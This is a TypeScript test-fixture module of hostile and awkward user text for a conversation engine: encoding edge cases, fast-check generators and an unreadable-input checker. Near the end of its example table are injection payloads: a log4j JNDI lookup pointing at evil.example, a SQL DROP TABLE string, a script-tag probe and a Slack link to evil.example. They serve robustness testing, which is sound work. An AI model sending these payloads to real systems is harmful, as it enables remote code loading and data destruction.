/**
 * Hostile and awkward user text, as named examples and as fast-check generators: full-width / half-width mixes,
 * half-width kana, emoji and ZWJ sequences, combining marks, very long lines, right-to-left text and overrides,
 * NUL and control characters, lone surrogates, markup and injection-looking strings.
 */
import fc from 'fast-check';

const repeat = (text: string, times: number) => text.repeat(times);

/** Named examples (name → text). Every property runs all of them before the random ones. */
export const HOSTILE_EXAMPLES: Readonly<Record<string, string>> = {
  'full-width latin': 'ＣＡＭＥＲＡ',
  'full-width mixed case device name': 'ＣａｍｅｒａＯＡ',
  'full-width contract number with a full-width hyphen': 'ＨＭＭＨ－０６１５３０',
  'half-width kana': 'ｶﾒﾗ',
  'half-width kana with voiced marks': 'ｶﾒﾗｦ ｻｸｼﾞｮ ｼﾀｲ',
  'half-width kana password word': 'ﾊﾟｽﾜｰﾄﾞ',
  'mixed widths and scripts': 'ｶﾒﾗ ＣＡＭＥＲＡ camera カメラ 1２3',
  emoji: '😀',
  'ZWJ family': '👨‍👩‍👧‍👦',
  'ZWJ flag sequence': '🏳️‍🌈',
  'skin tone modifier': '👍🏽',
  'regional indicators': '🇯🇵',
  'emoji inside Japanese': '解約したい🙏',
  'combining dakuten (か + U+3099)': 'か\u3099',
  'combining handakuten': 'は\u309A',
  'combining acute': 'cafe\u0301',
  'decomposed katakana word': 'カ\u3099イト\u3099',
  'stacked combining marks': `a${repeat('\u0301', 50)}`,
  '10k Japanese characters': repeat('あ', 10_000),
  '10k ASCII characters': repeat('a', 10_000),
  '10k characters of a request': repeat('解約したい', 2_000),
  'just over the limit': repeat('い', 1_001),
  Arabic: 'مرحبا، أريد إلغاء الاشتراك',
  Hebrew: 'שלום, אני רוצה לבטל',
  'right-to-left override': '\u202Eカメラを削除',
  'RLO inside latin': 'abc\u202Edef',
  'right-to-left mark': '\u200Fはい',
  'isolate controls': '\u2067はい\u2069',
  NUL: '\u0000',
  'NUL after yes': 'はい\u0000',
  bell: '\u0007',
  'ANSI escape': '\u001b[31mはい\u001b[0m',
  'C1 control': '\u0085',
  'line breaks only': '\r\n\r\n',
  tab: '\t',
  'lone high surrogate': '\uD800',
  'lone low surrogate': '\uDC00',
  'yes with a cut emoji': 'はい\uD83D',
  'reversed surrogate pair': '\uDE00\uD83D',
  empty: '',
  'ASCII space': ' ',
  'ideographic space': '\u3000',
  'zero-width space after yes': 'はい\u200B',
  BOM: '\uFEFF',
  'padded yes': '\u3000はい\u3000',
  'full-width YES': 'ＹＥＳ',
  'full-width one': '１',
  'number list': '1 2 3',
  'huge number': repeat('9', 400),
  'prototype key': '__proto__',
  constructor: 'constructor',
  'template placeholder': '{{slot}} {customer.email}',
  'HTML script': '<script>alert(1)</script>',
  'Slack markup': '*bold* <!channel> <@U123> <https://evil.example|click>',
  'Teams mention markup': '<at>Helpdesk</at> act portal@example.com',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text a log4j-style attack sends.
  'log4j-looking': '${jndi:ldap://evil.example/x}',
  'SQL-looking': "'; DROP TABLE conversations; --",
  'JSON-looking': '{"kind":"choice","choiceId":"confirm","stateVersion":1}',
};

/** Characters from the classes above, for building random strings. */
const CHARACTER_POOLS: readonly fc.Arbitrary<string>[] = [
  // hiragana, katakana, half-width kana, kanji
  fc.integer({ min: 0x3041, max: 0x3096 }).map((c) => String.fromCodePoint(c)),
  fc.integer({ min: 0x30a1, max: 0x30fa }).map((c) => String.fromCodePoint(c)),
  fc.integer({ min: 0xff61, max: 0xff9f }).map((c) => String.fromCodePoint(c)),
  fc.constantFrom('解', '約', '削', '除', '退', '会', '機', '器', '契', '番', '号'),
  // full-width ASCII and digits
  fc.integer({ min: 0xff01, max: 0xff5e }).map((c) => String.fromCodePoint(c)),
  fc.constantFrom(...'abcXYZ0123456789 -@.#'.split('')),
  // combining marks
  fc.constantFrom('\u3099', '\u309A', '\u0301', '\u0308', '\u20DD'),
  // emoji, ZWJ, variation selectors, skin tones
  fc.constantFrom('😀', '🙏', '👨', '👩', '\u200D', '\uFE0F', '🏽', '🇯', '🇵'),
  // right-to-left letters and bidi controls
  fc.constantFrom('م', 'ر', 'ש', 'ל', '\u202E', '\u202D', '\u200F', '\u2067', '\u2069'),
  // C0 / C1 controls, NUL, zero-width and line separators
  fc.integer({ min: 0x00, max: 0x1f }).map((c) => String.fromCharCode(c)),
  fc.integer({ min: 0x7f, max: 0x9f }).map((c) => String.fromCharCode(c)),
  fc.constantFrom('\u200B', '\u2028', '\u2029', '\uFEFF', '\u3000'),
  // lone surrogates
  fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c)),
];

/** A short string mixing the character classes above (≤ 40 units). */
export const mixedText: fc.Arbitrary<string> = fc
  .array(fc.oneof(...CHARACTER_POOLS), { maxLength: 40 })
  .map((chars) => chars.join(''));

/** A long line: one hostile piece repeated to 900–12 000 characters. */
export const longText: fc.Arbitrary<string> = fc
  .tuple(
    fc.oneof(
      mixedText.filter((s) => s.length > 0),
      fc.constant('あ'),
    ),
    fc.integer({ min: 900, max: 12_000 }),
  )
  .map(([piece, size]) => piece.repeat(Math.ceil(size / piece.length)).slice(0, size));

/** Any hostile text: a named example, mixed classes, arbitrary UTF-16 (lone surrogates included), or long. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...Object.values(HOSTILE_EXAMPLES)) },
  { weight: 4, arbitrary: mixedText },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  {
    weight: 1,
    arbitrary: fc.string({
      unit: fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c)),
      maxLength: 20,
    }),
  },
  { weight: 1, arbitrary: longText },
);

/**
 * Whether the text is clearly not an answer to anything: it has control / bidi-override / invisible characters or
 * lone surrogates, is blank, or is over the engine's 1000-character limit. The engine must refuse these politely
 * and leave the conversation where it was. (Written independently of the engine's own check.)
 */
export function isUnreadable(text: string): boolean {
  if (text.length > 1000) return true;
  if (text.normalize('NFKC').trim() === '') return true;
  const invisible = (c: number) =>
    (c < 0x20 && c !== 0x09 && c !== 0x0a && c !== 0x0d) ||
    (c >= 0x7f && c <= 0x9f) ||
    (c >= 0x200b && c <= 0x200f) ||
    (c >= 0x2028 && c <= 0x202e) ||
    (c >= 0x2060 && c <= 0x206f);
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    if (invisible(c)) return true;
    const next = text.charCodeAt(i + 1);
    if (c >= 0xd800 && c <= 0xdbff) {
      if (!(next >= 0xdc00 && next <= 0xdfff)) return true; // a high surrogate without its low half
      i++;
    } else if (c >= 0xdc00 && c <= 0xdfff) return true; // a low surrogate on its own
  }
  return false;
}
